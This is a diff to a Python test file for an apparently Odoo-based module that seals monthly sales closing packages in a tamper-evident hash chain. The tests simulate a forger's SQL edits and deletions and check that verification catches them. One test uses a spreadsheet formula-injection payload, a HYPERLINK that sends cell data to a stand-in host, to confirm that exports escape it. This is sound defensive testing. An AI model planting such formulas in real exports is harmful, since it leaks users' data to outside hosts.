@@ -166,9 +166,27 @@ class TestClosingPackage(SalesClosingCase):
         self.assertEqual((pdf.res_model, pdf.res_id), (package._name, package.id))
         self.assertEqual(package.pdf_hash, package_engine.file_hash(pdf.raw))
         self.assertEqual(package.xlsx_hash, package_engine.file_hash(xlsx.raw))
+        # format 2: the content hash also covers the package row
+        self.assertEqual(package.hash_version, 2)
         sealed = {
             "snapshot": data,
             "files": {"pdf": package.pdf_hash, "xlsx": package.xlsx_hash},
+            "hash_version": 2,
+            "package": {
+                "id": package.id,
+                "company_id": self.company.id,
+                "period_id": self.period.id,
+                "date_from": "2026-01-01",
+                "date_to": "2026-01-31",
+                "version": 1,
+                "snapshot_hash": package.snapshot_hash,
+                "diff": "",
+                "diff_count": 0,
+                "previous_package_id": None,
+                "previous_chain_hash": "",
+                "pdf_attachment_id": pdf.id,
+                "xlsx_attachment_id": xlsx.id,
+            },
         }
         self.assertEqual(package.content_hash, package_engine.content_hash(sealed))
         self.assertEqual(
@@ -339,3 +357,188 @@ class TestClosingPackage(SalesClosingCase):
             self.package.with_user(self.sales_user).read(["snapshot"])
         with self.assertRaises(AccessError):
             self.package.with_user(self.sales_user).action_verify()
+
+    # ------------------------------------------------------------------
+    # The chain covers the package fields, versions and head (issue #19)
+    # ------------------------------------------------------------------
+    def _february(self):
+        february = self.Period.create(
+            {
+                "name": "2026-02",
+                "date_from": date(2026, 2, 1),
+                "date_to": date(2026, 2, 28),
+            }
+        )
+        self._close(february)
+        return february.package_ids
+
+    def test_company_head_is_the_newest_package(self):
+        self.assertEqual(self.company.sales_closing_package_head_id, self.package)
+        self.assertEqual(
+            self.company.sales_closing_package_head_hash, self.package.chain_hash
+        )
+        second = self._february()
+        self.assertEqual(self.company.sales_closing_package_head_id, second)
+        # only the sealing workflow writes the head
+        for user in (self.manager, self.env.ref("base.user_admin")):
+            with self.assertRaises(AccessError):
+                self.company.with_user(user).write(
+                    {"sales_closing_package_head_hash": "0" * 64}
+                )
+
+    def test_tampered_package_fields_are_caught(self):
+        for column, value in (
+            ("version", 7),
+            ("diff", "<p>nothing changed</p>"),
+            ("diff_count", 3),
+            ("date_from", "2025-01-01"),
+        ):
+            with self.subTest(column=column):
+                self.env.flush_all()
+                self.env.cr.execute(
+                    f"SELECT {column} FROM sales_closing_package WHERE id = %s",  # noqa: S608
+                    [self.package.id],
+                )
+                original = self.env.cr.fetchone()[0]
+                self._tamper_sql(self.package, column, value)
+                self.package.action_verify()
+                self.assertEqual(self.package.verify_state, "tampered")
+                self.assertIn("Stored hashes rewritten", self.package.verify_message)
+                self._tamper_sql(self.package, column, original)
+                self.package.action_verify()
+                self.assertEqual(self.package.verify_state, "ok")
+
+    def test_period_dates_changed_after_the_close_are_caught(self):
+        self.env.flush_all()
+        self.env.cr.execute(
+            "UPDATE sales_closing_period SET date_to = '2026-01-30' WHERE id = %s",
+            [self.period.id],
+        )
+        self.env.invalidate_all()
+        self.package.action_verify()
+        self.assertEqual(self.package.verify_state, "tampered")
+
+    def test_deleted_newest_package_is_caught(self):
+        second = self._february()
+        second_id = second.id
+        self.env.flush_all()
+        # a forger with database access deletes February's package, moving
+        # the company's head off it so that the foreign key lets them
+        self.env.cr.execute(
+            "UPDATE res_company SET sales_closing_package_head_id = NULL WHERE id = %s",
+            [self.company.id],
+        )
+        self.env.cr.execute(
+            "DELETE FROM sales_closing_package WHERE id = %s", [second_id]
+        )
+        self.env.invalidate_all()
+        self.package.action_verify()
+        self.assertEqual(self.package.verify_state, "tampered")
+        self.assertIn("not the chain head", self.package.verify_message)
+        # even when the forger points the head back at January: its hash is
+        # February's, which the auditor holds, and no longer January's
+        self.env.cr.execute(
+            "UPDATE res_company SET sales_closing_package_head_id = %s WHERE id = %s",
+            [self.package.id, self.company.id],
+        )
+        self.env.invalidate_all()
+        self.package.action_verify()
+        self.assertIn("not the chain head", self.package.verify_message)
+
+    def test_version_gap_is_caught(self):
+        self.period.sudo().state = "reopened"
+        self._close(self.period)
+        second = self.period.package_ids.sorted("version")[1]
+        self._tamper_sql(second, "version", 3)
+        self.package.action_verify()
+        self.assertEqual(self.package.verify_state, "tampered")
+        self.assertIn("not 1 to 2", self.package.verify_message)
+
+    def test_package_out_of_sealing_order_is_caught(self):
+        second = self._february()
+        self.assertEqual(second.previous_package_id, self.package)
+        # relinking February to nothing, with its hashes recomputed as a
+        # forger would: its own hashes match, the sealing order does not
+        self._tamper_sql(second, "previous_package_id", None)
+        self._tamper_sql(second, "previous_chain_hash", "")
+        content = package_engine.content_hash(
+            second._sealed_content(json.loads(second.snapshot))
+        )
+        chain = package_engine.chain_hash(content, "")
+        self._tamper_sql(second, "content_hash", content)
+        self._tamper_sql(second, "chain_hash", chain)
+        self.env.cr.execute(
+            "UPDATE res_company SET sales_closing_package_head_hash = %s WHERE id = %s",
+            [chain, self.company.id],
+        )
+        self.env.invalidate_all()
+        second.action_verify()
+        self.assertEqual(second.verify_state, "tampered")
+        self.assertIn("does not follow", second.verify_message)
+
+    def test_legacy_packages_still_verify(self):
+        # a package sealed before format 2 (the migration marks it 1)
+        package = self.package
+        legacy = package_engine.content_hash(
+            {
+                "snapshot": json.loads(package.snapshot),
+                "files": {"pdf": package.pdf_hash, "xlsx": package.xlsx_hash},
+            }
+        )
+        chain = package_engine.chain_hash(legacy, "")
+        self._tamper_sql(package, "hash_version", 1)
+        self._tamper_sql(package, "content_hash", legacy)
+        self._tamper_sql(package, "chain_hash", chain)
+        self.env.cr.execute(
+            "UPDATE res_company SET sales_closing_package_head_hash = %s WHERE id = %s",
+            [chain, self.company.id],
+        )
+        self.env.invalidate_all()
+        package.action_verify()
+        self.assertEqual(package.verify_state, "ok", package.verify_message)
+        # the next package is of format 2 and chains to it
+        second = self._february()
+        self.assertEqual(second.hash_version, 2)
+        self.assertEqual(second.previous_chain_hash, chain)
+        second.action_verify()
+        self.assertEqual(second.verify_state, "ok", second.verify_message)
+        # but a format 2 package cannot claim the legacy format
+        self._tamper_sql(second, "hash_version", 1)
+        second.action_verify()
+        self.assertEqual(second.verify_state, "tampered")
+
+    def test_head_hash_emailed_to_auditor(self):
+        self.company.sales_closing_auditor_email = "auditor@example.com"
+        second = self._february()
+        mail = self.env["mail.mail"].search(
+            [("model", "=", second._name), ("res_id", "=", second.id)]
+        )
+        self.assertEqual(mail.email_to, "auditor@example.com")
+        self.assertIn(second.chain_hash, mail.body_html)
+        self.assertIn("2026-02", mail.subject)
+        # no address, no email
+        self.company.sales_closing_auditor_email = False
+        self.period.sudo().state = "reopened"
+        self._close(self.period)
+        third = self.period.package_ids.sorted("version")[-1]
+        self.assertFalse(
+            self.env["mail.mail"].search(
+                [("model", "=", third._name), ("res_id", "=", third.id)]
+            )
+        )
+
+    def test_xlsx_text_is_never_a_formula(self):
+        formula = '=HYPERLINK("http://x/?"&B9,"Open")'
+        self.customer.name = formula
+        second = self._february()
+        workbook = openpyxl.load_workbook(io.BytesIO(second.xlsx_attachment_id.raw))
+        cells = [
+            cell
+            for row in workbook["Sales by Customer"].iter_rows()
+            for cell in row
+            if isinstance(cell.value, str) and formula in cell.value
+        ]
+        self.assertTrue(cells)
+        for cell in cells:
+            self.assertEqual(cell.data_type, "s")
+            self.assertEqual(cell.value, "'" + formula)
